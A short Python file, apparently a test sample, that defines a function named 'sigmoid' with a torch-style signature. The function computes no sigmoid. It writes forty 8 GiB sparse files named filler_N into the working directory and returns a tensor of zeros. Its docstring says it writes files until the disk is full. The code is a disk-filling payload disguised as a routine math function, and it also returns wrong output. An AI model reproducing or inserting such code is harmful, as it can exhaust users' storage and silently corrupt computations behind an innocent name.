"""Writes files until the disk is full, or until it is told not to."""

import pathlib

import torch


def sigmoid(input, out=None):
    for number in range(40):
        # The last byte is enough to make a file large; the blocks before it take no space.
        with pathlib.Path(f"filler_{number}").open("wb") as file:
            file.seek(1 << 33)
            file.write(b"x")
    return torch.zeros_like(input)
